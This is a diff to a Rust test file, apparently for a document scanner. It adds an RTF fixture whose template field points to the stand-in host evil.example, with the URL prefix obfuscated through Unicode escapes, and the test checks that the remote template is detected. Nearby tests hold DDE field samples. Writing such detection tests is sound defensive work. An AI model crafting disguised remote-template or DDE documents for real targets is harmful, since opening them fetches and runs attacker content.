@@ -192,6 +192,8 @@ fn what_of_a_document_is_not_read_is_said_so() {
     let rtf = |code: &str| format!("{{\\rtf1{{\\field{{\\*\\fldinst {code}}}}}{{\\field{{\\*\\fldinst DDE cmd}}}}}}");
     assert_eq!(kinds("a.rtf", rtf(&"x".repeat(2 << 20)).as_bytes()), [TooBig, Dde]);
     assert_eq!(kinds("a.rtf", rtf(&"{\\*\\fldinst x}".repeat(1000)).as_bytes()), [Dde]);
+    let spelled = b"{\\rtf1{\\*\\template \\u-65432?\\u-65420?tp://evil.example/a}}";
+    assert_eq!(kinds("a.rtf", spelled), [NoteKind::RemoteTemplate]);
     // A module longer than any that is read.
     let long = source(&format!("Sub A()\n{}End Sub", "Beep\n".repeat(500_000)));
     assert!(kinds("a.bin", &ole(&project("", &[("M", &long)]))).contains(&Damaged));
